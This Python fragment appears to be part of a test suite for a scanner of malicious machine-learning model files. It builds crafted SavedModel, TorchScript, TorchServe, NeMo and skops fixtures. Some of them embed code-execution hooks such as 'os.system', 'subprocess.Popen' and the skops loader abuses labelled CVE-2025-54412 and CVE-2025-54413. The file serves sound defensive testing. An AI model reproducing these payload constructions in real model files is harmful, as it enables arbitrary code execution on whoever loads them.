    saved = b"\x08\x01" + pb(2, pb(1, pb(4, b"serve")) + pb(2, pb(1, pb(1, b"x") + pb(
        2, b"ReadFile"))))
    case("savedmodel", t, "modelscan: ReadFile, WriteFile", saved, ext=".pb", **none)
    case("savedmodel-zip", t, "SavedModel in a zip", zip_bytes([
        Member("m/saved_model.pb", saved), Member("m/variables/variables.index", b"\0")]),
        ext=".zip", **none)
    case("tflite", t, "flatbuffer TFL3", b"\x1c\0\0\0TFL3" + b"\0" * 40, ext=".tflite", **none)
    case("pyc", t, "a compiled module", pyc(CODE), ext=".pyc", load="marshal",
         fires="no effect to see")
    case("pyc-no-extension", t, "content decides", pyc(CODE), ext="", load="marshal",
         fires="no effect to see")
    case("marshal", t, "a code object by marshal", MARSHAL_311, ext=".bin", load="marshal",
         fires="no effect to see")
    case("torchscript-only-code", t, "TorchScript code is a program", zip_bytes([
        Member("m/data.pkl", b"\x80\x02c__torch__\nM\nq\x00)\x81}X\x08\0\0\0training\x89sb."),
        Member("m/code/__torch__.py", b"class M(Module):\n  def forward(self):\n    "
               b"return torch.from_file('pratique-marker', True, 16)\n"),
        Member("m/constants.pkl", b"\x80\x02)."), Member("m/version", b"3\n")]), ext=".pt",
        fires=False, hold_ok=True)
    case("coreml", t, "Core ML", b"\x08\x04\x12\x10" + b"\x0a\x05input\x1a\x05\x2a\x03\x0a\x01\x01",
         ext=".mlmodel", hold_ok=True, **none)
    case("torch-mar", t, "a TorchServe archive holds a handler", zip_bytes([
        Member("MAR-INF/MANIFEST.json", b'{"model": {"handler": "handler.py"}}'),
        Member("handler.py", CODE.encode()), Member("model.pt", torch_zip(evil()))]), ext=".mar",
        load="unpack")
    case("nemo", t, "a NeMo archive", tar_of([("model_config.yaml", b"_target_: os.system\n"), (
        "model_weights.ckpt", torch_zip(evil()))]), ext=".nemo", load="unpack")
    case("rds", t, "an R workspace", b"RDX3\nX\n\0\0\0\x03\0\x04\x02\0\0\x03\x05\0", ext=".rda",
         **none)
    case("java-serialized", t, "Java serialisation", b"\xac\xed\x00\x05sr\x00\x11java.util."
         b"HashMap", ext=".ser", hold_ok=True, **none)
    case("rar-broken", t, "rar with nothing readable", b"Rar!\x1a\x07\x01\x00" + b"\xff" * 24,
         ext=".rar", **none)
    case("empty-with-name", t, "an empty checkpoint", b"", ext=".pt", fires=False,
         want=("undecided", "admit", "refuse"))
    case("llamafile", t, "a program that is also a zip", b"MZqFpD='\n" + b"\0" * 100 +
         zip_bytes([Member("model.gguf", b"GGUF\x03\0\0\0" + b"\0" * 16)]), ext=".llamafile",
         **none)
    skops = json.dumps({"__class__": "Popen", "__module__": "subprocess", "__loader__":
                        "ObjectNode", "content": {}, "__id__": 1, "protocol": 2,
                        "_skops_version": "0.10"}).encode()
    case("skops-evil-type", t, "skops: types are the reader's to trust", zip_bytes([
        Member("schema.json", skops)]), ext=".skops", **none)
    case("skops-operatorfunc", t, "CVE-2025-54412: OperatorFuncNode", zip_bytes([Member(
        "schema.json", json.dumps({"__class__": "call", "__module__": "operator", "__loader__":
                                   "OperatorFuncNode", "attrs": {}}).encode())]), ext=".skops",
        **none)
    case("skops-methodnode", t, "CVE-2025-54413: MethodNode", zip_bytes([Member(
        "schema.json", json.dumps({"__class__": "int", "__module__": "builtins", "__loader__":
                                   "MethodNode", "content": {"func": "system", "obj": {
                                       "__module__": "os"}}}).encode())]), ext=".skops", **none)
    case("skops-with-pickle", t, "a pickle among skops members", zip_bytes([
        Member("schema.json", b'{"__class__": "dict", "__module__": "builtins", "__loader__": '
               b'"DictNode", "content": {}, "key_types": {}}'), Member("1.pkl", evil())]),
        ext=".skops", load="unpack")


MARSHAL_311 = marshal.dumps(compile("1", "x", "eval"))


def pyc(source):
    """Header of Python 3.11 (3495); the code object is this interpreter's own."""
    return struct.pack("<HHIII", 3495, 0x0a0d, 0, 0, 0) + marshal.dumps(compile(source, "x",
                                                                               "exec"))


def hdf5(attributes=b""):
    """The signature and a version 0 superblock: enough to be taken for one."""
    head = b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + struct.pack(
        "<HHI", 4, 16, 0) + struct.pack("<QQQQ", 0, 2**64 - 1, 2048, 2**64 - 1)
    return (head + attributes).ljust(2048, b"\0")


def made_elsewhere(case):
    """Files that take a library to make, committed with their generator (make_fixtures.py)."""
    folder = os.path.join(HERE, "fixtures")
    table = os.path.join(folder, "table.json")
    if not os.path.exists(table):
        return
    with open(table) as f:
        for row in json.load(f):
            with open(os.path.join(folder, row["file"]), "rb") as data:
                stem, ext = row["file"].split(".", 1)
                case(stem, row["technique"], row["reference"], data.read(), ext="." + ext,
                     needs=row["needs"], load=row["load"], fires=row["fires"])
